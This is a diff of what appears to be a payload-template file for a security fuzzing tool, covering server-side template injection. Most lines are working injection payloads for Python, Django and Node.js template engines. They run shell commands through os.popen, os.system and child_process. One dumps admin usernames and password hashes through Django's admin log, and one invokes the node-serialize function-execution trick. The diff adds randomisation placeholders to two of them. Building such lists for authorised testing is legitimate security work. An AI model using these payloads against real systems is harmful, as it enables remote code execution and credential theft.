@@ -231,7 +231,7 @@ code/template-python 4: {{‹pychain›}}
   {% import os %}{{os.popen("‹cmd›").read()}}
   {%import os%}{{os.system('‹cmd›')}}
   {% debug %}
-  {% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.get_username}} : {{e.user.password}}{% endfor %}
+  {% load log %}{% get_admin_log ‹#1-99› as ‹=l:‹~2-6›› %}{% for ‹=v:‹~1-4›› in ‹=l› %}{{‹=v›.user.get_username}}‹ : ¦-¦ ›{{‹=v›.user.password}}{% endfor %}
   {% include request.GET.‹~2-6› %}
   {‹~3-6›.__init__.__globals__}
   §{self.module.cache.util.os.popen('‹cmd›').read()}
@@ -424,7 +424,7 @@ code/node 4: ‹nodecall›
   res.end(‹nodecall›)
   {"rce":"_§§ND_FUNC§§_function(){‹nodecall›}()"}
   _§§ND_FUNC§§_function(){return ‹nodecall›}()
-  {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return ‹nodecall›"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
+  {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.‹sub¦big¦bold¦link› "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return ‹nodecall›"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
   #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('‹cmd›')}()}
   {{range.constructor("return ‹nodecall›")()}}
   {{constructor.constructor('return ‹nodecall›')()}}
